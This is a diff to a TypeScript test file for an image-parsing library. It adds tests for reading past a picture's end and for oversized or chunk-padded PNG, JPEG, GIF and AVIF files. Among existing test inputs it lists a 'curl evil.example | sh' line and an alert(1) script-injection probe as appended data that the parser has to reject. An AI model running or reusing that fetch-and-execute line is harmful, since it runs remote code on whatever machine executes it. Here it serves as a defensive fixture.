@@ -9,7 +9,7 @@ import { type MediaType, sniffMediaType } from '../../src/image/media-type.ts';
 import { createImage } from '../../src/image/picture.ts';
 import { followPicture } from '../../src/image/walk.ts';
 import { saveImage } from '../../src/node/save-image.ts';
-import { toPng } from '../pictures.ts';
+import { toJpeg, toPng } from '../pictures.ts';
 
 type Format = 'png' | 'jpeg' | 'webp' | 'gif' | 'avif';
 type Pipeline = Record<Format, (options?: object) => { toBuffer(): Promise<Buffer> }>;
@@ -83,6 +83,18 @@ describe.each(files)('%s', (_, make) => {
     expect(isPicture(Buffer.concat([file, Buffer.from('\n--\nsigned by its camera')]), 11)).toBe(true);
   });
 
+  test('has no more work with what is behind it', async () => {
+    const file = await make();
+    const follower = followPicture(typeOf(file));
+    expect(follower.take(Buffer.concat([file, Buffer.alloc(2)]))).toBe(true);
+    const unread = new Proxy(new Uint8Array(9), {
+      get() {
+        throw new Error('it was looked at');
+      },
+    });
+    expect([follower.take(unread), follower.end()]).toEqual([true, 'whole']);
+  });
+
   test.each([
     '\n#!/bin/sh\ncurl evil.example | sh\n',
     '=1;\nalert(1)//',
@@ -115,6 +127,33 @@ describe.each(files.filter(([name]) => name.includes('JPEG')))('%s that is cut',
     const unframed = Buffer.concat([file.subarray(0, frame), file.subarray(frame + 2 + file.readUInt16BE(frame + 2))]);
     expect(endOf(unframed.subarray(0, -2))).toBeUndefined();
     expect(endOf(Buffer.concat([file.subarray(0, -2), Buffer.from([0xff, 0xe0, 0, 1])]))).toBeUndefined();
+  });
+});
+
+describe('a file that is long', () => {
+  const head = {
+    png: Buffer.from('89504e470d0a1a0a', 'hex'),
+    jpeg: Buffer.from(toJpeg(0, false)),
+    gif: Buffer.from('GIF89a\x01\0\x01\0\0\0\0', 'latin1'),
+    avif: Buffer.from('\0\0\0\x14ftypavif\0\0\0\0avif', 'latin1'),
+  };
+  const many = (...bytes: readonly number[]): Buffer => Buffer.alloc(12_000_000, Buffer.from(bytes));
+
+  test.each([
+    ['PNG', head.png, many(0, 0, 0, 0, 65, 65, 65, 65, 0, 0, 0, 0)],
+    ['JPEG', head.jpeg.subarray(0, 2), many(0xff, 0xe0, 0, 2)],
+    ['GIF', head.gif, many(0x21, 0xfe, 0)],
+    ['AVIF', head.avif, many(0, 0, 0, 8, 65, 65, 65, 65)],
+  ])('and of nothing but the smallest parts is no %s, and not followed to its end', (_, first, rest) => {
+    const file = Buffer.concat([first, rest]);
+    expect(followPicture(typeOf(file)).take(file)).toBe(false);
+  });
+
+  test('is one where only its picture is long', () => {
+    const escaped = Buffer.concat([head.jpeg, many(0xff, 0), Buffer.from([0xff, 0xd9])]);
+    const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2]);
+    const animated = Buffer.concat([head.gif, frame, many(1, 65), Buffer.from([0, 0x3b])]);
+    expect([isPicture(escaped, 16_384), isPicture(animated, 16_384)]).toEqual([true, true]);
   });
 });
 
